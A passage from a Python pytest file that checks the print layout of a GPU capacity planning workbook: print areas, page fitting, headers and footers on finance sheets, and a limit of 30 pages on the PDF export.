    wb = load_workbook(small_workbook)
    for title, rows in FINANCE_SHEETS.items():
        ws = wb[title]
        assert ws.print_area, title
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
        assert ws.page_setup.fitToHeight == 0, title
        assert ws.print_title_rows == (f"${rows.replace(':', ':$')}" if rows else None), title
        assert ws.oddHeader.left.text == "GPU capacity plan for LLM inference"
        assert ws.oddHeader.right.text == "&A" and ws.oddFooter.right.text == "Page &P of &N"
        assert ws.oddFooter.left.text.startswith("Built ")
    for title in ("Grid", "View data"):  # thousands of rows: their header row only
        assert re.fullmatch(r"'[^']+'!\$A\$1:\$[A-Z]+\$1", wb[title].print_area), title


@pytest.mark.libreoffice
def test_a_finance_export_is_at_most_30_pages(default_workbook, tmp_path) -> None:
    from planner.outputs.workbook import FINANCE_SHEETS
    from tests.recalc import export_pdf, pdf_pages

    pages = pdf_pages(export_pdf(default_workbook, tmp_path, set(FINANCE_SHEETS)))
    assert len(FINANCE_SHEETS) <= pages <= 30
